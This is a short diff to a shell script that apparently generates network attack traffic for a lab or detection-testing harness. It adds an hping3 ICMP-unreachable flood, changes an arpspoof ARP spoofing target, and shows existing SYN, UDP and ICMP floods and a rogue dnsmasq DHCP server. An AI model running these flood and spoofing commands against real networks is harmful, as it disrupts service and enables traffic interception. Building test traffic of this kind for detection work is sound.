@@ -142,6 +142,8 @@ attack flood_syn_silent syn_flood hping3 500/s spoofed $silent \
 attack flood_syn_one syn_flood hping3 500/s $me $silent flood -S -p 443 -i u2000 -c 8000 $silent
 attack flood_udp udp_flood hping3 1000/s $me $silent flood --udp -d 200 -p 9999 -i u1000 -c 10000 $silent
 attack flood_icmp icmp_flood hping3 1000/s $me $server flood --icmp -d 56 -i u1000 -c 10000 $server
+attack flood_unreachable icmp_unreachable_flood hping3 1000/s $me $silent \
+    flood --icmp -C 3 -K 3 -i u1000 -c 10000 $silent
 attack flood_udp_fast udp_flood hping3 "as fast as it goes" $me $silent \
     flood --udp -d 20 -p 9999 --flood -c 400000 $silent
 attack flood_icmp_fast icmp_flood hping3 "as fast as it goes" $me $silent \
@@ -173,7 +175,7 @@ spoof() {
     honest 12
     wait $! || true
 }
-attack spoof_arp arp_spoof arpspoof 0.5/s $me 192.0.2.1 spoof
+attack spoof_arp arp_spoof arpspoof 0.5/s $me 192.0.2.254 spoof
 rogue() {
     serve $R dnsmasq --keep-in-foreground --conf-file=/dev/null --port=0 --user=root \
         --pid-file="$work/dhcp-r.pid" --dhcp-leasefile="$work/leases-r" --interface=lan \
